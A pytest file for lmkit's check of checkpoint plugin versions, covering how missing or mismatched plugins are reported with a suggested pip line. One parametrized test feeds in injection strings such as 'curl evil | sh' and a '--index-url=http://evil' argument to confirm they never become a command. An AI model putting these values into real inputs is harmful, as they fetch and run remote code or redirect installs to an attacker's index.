"""What is installed now against what a checkpoint was made by."""

from collections.abc import Callable
from typing import Any

import attrs
import pytest

from lmkit.checkpoint import check_components
from lmkit.errors import CheckpointError, PluginError, UnknownComponentError

SAVED = {
    "kind": "encoder",
    "name": "mixer",
    "distribution": "lmkit-foo",
    "version": "1.2.3",
    "state_version": 2,
    "config": {},
}


@attrs.frozen
class Installed:
    distribution: str = "lmkit-foo"
    version: str = "1.2.3"
    state_version: int = 2
    name: str = "mixer"

    def load(self) -> Any:
        return type("Mixer", (), {"state_version": self.state_version})


def finding(component: Any) -> Callable[..., Any]:
    def find(kind: str, name: str) -> Any:
        assert (kind, name) == ("encoder", f"{SAVED['distribution']}:mixer")
        if isinstance(component, Exception):
            raise component
        return component

    return find


def refusal(component: Any, **changes: Any) -> str:
    find = (
        finding(component)
        if "distribution" not in changes
        else lambda kind, name: finding(component)("encoder", "lmkit-foo:mixer")
    )
    with pytest.raises(CheckpointError) as caught:
        check_components([SAVED | changes], find, source="runs/a")
    return str(caught.value)


def test_the_same_version_has_nothing_to_tell() -> None:
    assert check_components([SAVED, SAVED], finding(Installed()), source="runs/a") == []


def test_another_version_is_told_for_each_component() -> None:
    sentence = 'encoder "mixer" was saved by lmkit-foo 1.2.3 and is now of lmkit-foo 1.3.0'
    assert check_components([SAVED, SAVED], finding(Installed(version="1.3.0")), source="runs/a") == [sentence] * 2


def test_an_older_state_version_is_for_the_plugin_to_upgrade() -> None:
    newer = Installed(version="2.0", state_version=3)
    (sentence,) = check_components([SAVED], finding(newer), source="runs/a")
    assert sentence == 'encoder "mixer" was saved by lmkit-foo 1.2.3 and is now of lmkit-foo 2.0'


def test_a_missing_plugin_is_named_with_its_pip_line() -> None:
    error = UnknownComponentError(
        'no encoder named "lmkit-foo:mixer". Installed: none. Not loaded: lmkit-foo 1.2.3 (failed).'
    )
    assert refusal(error) == (
        'runs/a: encoder "mixer" of lmkit-foo 1.2.3 is needed: no encoder named "lmkit-foo:mixer". Installed: none. '
        'Not loaded: lmkit-foo 1.2.3 (failed). To get it: pip install "lmkit-foo==1.2.*"'
    )


def test_a_newer_state_version_is_refused() -> None:
    assert refusal(Installed(version="1.1.0", state_version=1)) == (
        'runs/a: encoder "mixer" was saved in state version 2 by lmkit-foo 1.2.3, and lmkit-foo 1.1.0 reads up to 1. '
        'To get that: pip install "lmkit-foo==1.2.*"'
    )


@pytest.mark.parametrize(
    ("distribution", "version", "remedy"),
    [
        ("lmkit-foo", "7", 'pip install "lmkit-foo==7.*"'),
        ("lmkit_foo.x", "0.1.0.dev3+abc", 'pip install "lmkit_foo.x==0.1.*"'),
        ("local file my_task.py", "sha256:0123456789ab", "give its file with --plugin"),
        ('lmkit" ; curl evil | sh ; "', "1.0", "give its file with --plugin"),
        ("lmkit-foo", '" ; curl evil | sh ; "', "give its file with --plugin"),
        ("--index-url=http://evil", "1.0", "give its file with --plugin"),
    ],
)
def test_nothing_of_a_checkpoint_becomes_a_command_but_a_name_and_a_version(
    distribution: str, version: str, remedy: str
) -> None:
    said = refusal(UnknownComponentError("no such."), distribution=distribution, version=version)
    assert said.endswith(f" is needed: no such. To get it: {remedy}")


def test_a_plugin_that_breaks_is_its_own_error() -> None:
    with pytest.raises(PluginError, match="broken"):
        check_components([SAVED], finding(PluginError("broken")), source="runs/a")
